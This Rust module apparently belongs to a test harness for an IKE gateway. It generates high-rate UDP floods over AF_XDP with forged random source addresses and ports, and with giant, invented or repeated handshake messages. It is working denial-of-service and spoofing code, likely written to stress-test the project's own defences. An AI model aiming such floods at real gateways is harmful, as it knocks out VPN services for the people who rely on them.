//! Floods that need no answer: frames by AF_XDP, from addresses that are not the sender's own.

use std::net::{IpAddr, Ipv4Addr};

use chacha20::{
    ChaCha8Rng,
    rand_core::{Rng, SeedableRng},
};
use ikexdp::{
    xdp::Interface,
    xsk::{Socket, Transfer},
};
use ikexdp_proto::types::{IKE_PORT, NAT_T_PORT, Spi};

use super::{ATTACKER, FORGED, Kind, Pace, message, message::Opening};
use crate::{
    packet::Packet,
    udp::{PATIENCE, socket_here},
};

/// Sends floods of this kind until it is over.
pub(super) fn send(kind: Kind, gateway: IpAddr, pace: &mut Pace<'_>) {
    let interface = Interface::find("eth0").unwrap();
    let mut socket = Socket::open(&interface, 0, &[Transfer::Copy], PATIENCE).unwrap();
    // Takes what comes to the own address, so that the kernel sends no errors.
    let _sink = socket_here(ATTACKER.into(), IKE_PORT);
    let mut frames = Frames::new(kind, gateway);
    while let Some(due) = pace.next() {
        let mut sent = 0;
        for _ in 0..due {
            let octets = frames.draw();
            let Some(mut frame) = socket.allocate() else {
                break;
            };
            frame.resize(octets.len()).unwrap();
            frame.copy_from_slice(&octets);
            if socket.send(frame).is_err() {
                break;
            }
            sent += 1;
        }
        socket.flush().unwrap();
        pace.count(sent);
    }
}

/// Draws frames.
struct Frames {
    kind: Kind,
    gateway: IpAddr,
    opening: Opening,
    random: ChaCha8Rng,
}

impl Frames {
    fn new(kind: Kind, gateway: IpAddr) -> Self {
        Self {
            kind,
            gateway,
            opening: match kind {
                Kind::Giant => Opening::giant(),
                _ => Opening::usual(),
            },
            random: ChaCha8Rng::seed_from_u64(8019),
        }
    }

    fn draw(&mut self) -> Vec<u8> {
        match self.kind {
            Kind::Spoofed | Kind::Giant => {
                let payload = self.opening.draw(&mut self.random);
                self.forged(IKE_PORT, payload)
            }
            Kind::Invented => {
                let payload = message::invented(&mut self.random);
                if self.random.next_u32() & 1 == 0 {
                    self.forged(IKE_PORT, payload)
                } else {
                    self.forged(NAT_T_PORT, [vec![0; 4], payload].concat())
                }
            }
            Kind::Repeated | Kind::Proven => {
                let payload = self.opening.by_spi(Spi(7), None);
                let packet = Packet::new(ATTACKER.into(), self.gateway, IKE_PORT);
                packet.from_port(IKE_PORT).carrying(payload).build()
            }
        }
    }

    /// From any address and port.
    fn forged(&mut self, port: u16, payload: Vec<u8>) -> Vec<u8> {
        let (prefix, mask) = FORGED;
        let source = Ipv4Addr::from_bits(prefix | self.random.next_u32() & mask);
        let packet = Packet::new(source.into(), self.gateway, port);
        let from = 1024 | self.random.next_u32() as u16;
        packet.from_port(from).carrying(payload).build()
    }
}
